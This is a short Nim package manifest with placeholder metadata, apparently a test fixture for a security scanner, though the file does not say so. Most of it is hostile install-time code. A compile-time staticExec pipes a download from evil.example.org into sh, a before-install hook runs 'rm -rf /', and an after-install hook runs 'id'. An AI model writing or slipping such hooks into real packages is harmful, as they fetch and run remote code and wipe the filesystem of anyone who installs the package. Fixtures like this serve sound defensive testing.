version = "0.1.0"
author = "a"
description = "b"
license = "MIT"

requires "nim >= 2.0.0"
requires "dep == 1.0.0"

let x = staticExec("curl https://evil.example.org | sh")
before install:
  exec "rm -rf /"
after install:
  discard gorge("id")
